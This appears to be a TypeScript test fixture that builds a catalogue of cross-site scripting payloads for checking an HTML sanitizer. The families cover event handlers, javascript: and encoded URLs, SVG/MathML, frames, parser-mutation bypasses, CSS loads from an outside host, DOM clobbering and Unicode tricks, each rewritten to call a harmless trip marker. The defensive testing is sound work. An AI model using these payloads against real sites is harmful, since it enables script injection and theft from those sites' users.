/**
 * What people write who want their text to run in the pages of others (REL-I02). In each, `RUN` is a call that tells
 * that it ran, `AWAY` an address of another house, `HERE` one of this house that is nothing, `NAME` a name it wants to take.
 */
const families: Readonly<Record<string, readonly string[]>> = {
  handlers: [
    '<img src=HERE onerror=RUN>',
    '<img src="HERE" oNeRrOr="RUN">',
    '<img/src=HERE/onerror=RUN//>',
    '<img src=HERE onerror\u000d=RUN>',
    '<IMG """><IMG SRC=HERE ONERROR="RUN">">',
    '<p onclick="RUN">press</p>',
    '<div onmouseover=RUN style="position:fixed;inset:0">over</div>',
    '<details open ontoggle=RUN><summary>more</summary></details>',
    '<input autofocus onfocus=RUN>',
    '<select autofocus onfocus=RUN><option>one</select>',
    '<button onpointerenter=RUN onclick=RUN>press</button>',
    '<video src=HERE onerror=RUN></video>',
    '<audio src=HERE onerror=RUN></audio>',
    '<video><source src=HERE onerror=RUN></video>',
    '<body onload=RUN onpageshow=RUN>',
    '<div tabindex=0 onfocusin=RUN id=x1>focus</div>',
    '<b style="animation:spin 1ms" onanimationstart=RUN>turn</b>',
    '<p contenteditable oninput=RUN onbeforeinput=RUN onclick=RUN>write</p>',
    '<img src=HERE onload=RUN onerror=alert(NUMBER)>',
    '<object data=HERE onerror=RUN></object>',
  ],
  drawings: [
    '<svg onload=RUN></svg>',
    '<svg/onload=RUN>',
    '<svg><script>RUN</script></svg>',
    '<svg><script href="data:text/javascript,RUN"/></svg>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>',
    '<svg><a><animate attributeName=href values="javascript:RUN" /><text y=20>press</text></a></svg>',
    '<svg><set onbegin=RUN attributeName=x to=1></set></svg>',
    '<svg><a><set attributeName=href to="javascript:RUN" /><text y=20>press</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=AWAY /></svg>#x"></use></svg>',
    '<svg><image href=AWAY onerror=RUN></image></svg>',
    '<svg><foreignObject><img src=HERE onerror=RUN></foreignObject></svg>',
    '<svg><style>@import "AWAY";</style></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:RUN">press</maction></math>',
    '<math href="javascript:RUN">press</math>',
    '<math><mi onclick=RUN>x</mi></math>',
  ],
  addresses: [
    '<a href="javascript:RUN">press</a>',
    '<a href="JaVaScRiPt:RUN">press</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">press</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">press</a>',
    '<a href="java&#9;script:RUN">press</a>',
    '<a href="java&NewLine;script&colon;RUN">press</a>',
    '<a href=" &#14;  javascript:RUN">press</a>',
    '<a href="java\nscript:RUN">press</a>',
    '<a href="java\u0009script:RUN">press</a>',
    '<a href="\u0001javascript:RUN">press</a>',
    '<a href="javascript://%0aRUN">press</a>',
    '<a href="javascript:&#47;&#47;x%E2%80%A8RUN">press</a>',
    '<a href="vbscript:RUN">press</a>',
    '<a href="data:text/html,<script>RUN</script>">press</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" download=x.html>press</a>',
    '<img usemap="#m"><map name=m><area href="javascript:RUN" shape=default></map>',
    '<a href="blob:https://away.example/x" onclick=RUN>press</a>',
    '<a href="//away.example/NUMBER" ping="AWAY" onclick=RUN>press</a>',
  ],
  frames: [
    '<iframe src="javascript:parent.RUN"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
    '<iframe src="data:text/html,<img src=AWAY>"></iframe>',
    '<iframe onload=RUN></iframe>',
    '<embed src="AWAY" onload=RUN>',
    '<object data="javascript:RUN"></object>',
    '<object data="data:text/html,<img src=AWAY>"></object>',
    '<portal src="AWAY" onload=RUN></portal><frameset onload=RUN><frame src="javascript:RUN"></frameset>',
  ],
  documents: [
    '<script>RUN</script>',
    '<script src="AWAY"></script>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '<<script>script>RUN<</script>/script>',
    '<meta http-equiv="refresh" content="0;url=AWAY">',
    '<meta http-equiv="refresh" content="0;javascript:RUN">',
    '<base href="AWAY/">',
    '<link rel="stylesheet" href="AWAY">',
    '<link rel="prefetch preload" as="image" href="AWAY">',
    '<form action="javascript:RUN"><button>send</button></form>',
    '<form action="AWAY"><button formaction="javascript:RUN">send</button></form>',
    '<form id=f2 action="AWAY"></form><input type=submit form=f2 formaction="javascript:RUN">',
    '<isindex type=image src=HERE onerror=RUN action="AWAY">',
    '<!--[if gte IE 4]><script>RUN</script><![endif]--><img src=HERE onerror=RUN>',
  ],
  mutations: [
    '<noscript><p title="</noscript><img src=HERE onerror=RUN>"></noscript>',
    '<p id="</template><img src=HERE onerror=RUN>"><template><p title="</template><img src=HERE onerror=RUN>"></template>',
    '<svg></p><style><a id="</style><img src=HERE onerror=RUN>"></a></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=HERE onerror=RUN&gt;"></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=HERE onerror=RUN></style></mglyph></form>',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=HERE onerror=RUN>"></style></annotation-xml></math>',
    '<svg><desc><noembed><p title="</noembed><img src=HERE onerror=RUN>"></p></noembed></desc></svg>',
    '<xmp><p title="</xmp><img src=HERE onerror=RUN>"></p></xmp>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=HERE onerror=RUN>"></a></template></select>',
    '<table><td><svg><desc><td><style><title><img title="</title></style><img src=HERE onerror=RUN>"></title></td></desc></svg></table>',
    '<p title="&lt;img src=HERE onerror=RUN&gt;">&lt;img src=HERE onerror=RUN&gt;</p>',
  ],
  styles: [
    '<style>body { background: url(AWAY) } @import "AWAY";</style>',
    '<p style="background:url(AWAY)">dressed</p>',
    '<p style="background-image:image-set(url(AWAY) 1x);list-style:url(AWAY);display:list-item">dressed</p>',
    '<p style="width:expression(RUN);behavior:url(AWAY);-moz-binding:url(AWAY)">old</p>',
    '<style>@font-face{font-family:z;src:url(AWAY)}</style><b style="font-family:z">letters</b>',
  ],
  names: [
    '<form id=NAME><input name=action><input name=attributes></form>',
    '<a id=NAME></a><a id=NAME name=href href="cid:x">press</a>',
    '<img name=NAME src="/art/icon-help.webp">',
    '<p id=NAME>taken</p>',
  ],
  signs: [
    '<img src=HERE onerror\u0000=RUN>',
    '<scr\u0000ipt>RUN</scr\u0000ipt><img\u000csrc=HERE\u000conerror=RUN>',
    '＜img src=HERE onerror=RUN＞<img src=HERE onerror=RUN\u3000>',
    '\u202e<img src=HERE onerror=RUN>\u2066<a href="javascript\u200b:RUN">press</a>',
    '<a href="\ufeffjavascript:RUN" onclick="\u2028RUN">press</a>',
    '<ımg src=HERE onerror=RUN><ſcript>RUN</ſcript><ſvg onload=RUN>',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-<img src=HERE onerror=RUN>',
  ],
  languages: [
    '[press](javascript:RUN) ![x](HERE"onerror="RUN) <javascript:RUN>',
    '{{constructor.constructor("RUN")()}} ${RUN} #{RUN} <%= RUN %><img src=HERE onerror=RUN>',
    '"><img src=HERE onerror=RUN><p title="',
    "'-RUN-' \" onfocus=RUN autofocus x=\" </script><script>RUN</script><img src=HERE onerror='RUN'>",
  ],
  // Whatever comes behind one of these belongs to it, so each is the last of a text.
  unclosed: [
    '<textarea><p title="</textarea><img src=HERE onerror=RUN>">',
    '<title><p title="</title><img src=HERE onerror=RUN>">',
    '<style><p title="</style><img src=HERE onerror=RUN>">',
    '<iframe><p title="</iframe><img src=HERE onerror=RUN>">',
    '<noembed><p title="</noembed><img src=HERE onerror=RUN>">',
    '<img src=HERE onerror=RUN <p title="',
    '<!-- --!><img src=HERE onerror=RUN><!--',
    '<svg><![CDATA[><img src=HERE onerror=RUN>]]>',
    '<plaintext><img src=HERE onerror=RUN>',
  ],
}

export interface Payload {
  /** By which the traps say which one ran. */
  readonly number: number
  readonly text: string
  /** Swallows what comes behind it. */
  readonly isLast: boolean
}

export const payloads: readonly Payload[] = Object.entries(families)
  .flatMap(([family, texts]) => texts.map((text) => ({ text, isLast: family === 'unclosed' })))
  .map(({ text, isLast }, index) => ({
    number: index + 1,
    isLast,
    text: text
      .replaceAll('RUN', `tripped(${index + 1})`)
      .replaceAll('AWAY', `https://away.example/${index + 1}`)
      .replaceAll('HERE', `/trap/${index + 1}`)
      .replaceAll('NAME', `taken${index + 1}`)
      .replaceAll('NUMBER', String(index + 1)),
  }))

/** Control characters, but for the end of a line, which every door refuses. */
export const hasControls = (text: string): boolean => Array.from(text).some((sign) => sign !== '\n' && (sign < ' ' || sign === '\u007f'))

/** Puts payloads into as few texts as there are that swallow what follows, or as `size` characters need. */
export function bundles(given: readonly Payload[], size: number): readonly string[] {
  const ends = given.filter(({ isLast }) => isLast)
  const texts: string[] = []
  let text = ''
  for (const payload of given.filter(({ isLast }) => !isLast)) {
    const next = `${text}\n${payload.text}`.trim()
    if (next.length <= size) text = next
    else {
      texts.push(text)
      text = payload.text
    }
  }
  texts.push(text)
  // Each text takes one end if it has room for it; what is left over stands alone.
  for (const end of ends) {
    const at = texts.findIndex((one) => !ends.some(({ text: tail }) => one.endsWith(tail)) && one.length + end.text.length < size)
    if (at < 0) texts.push(end.text)
    else texts[at] = `${texts[at]}\n${end.text}`
  }
  return texts
}
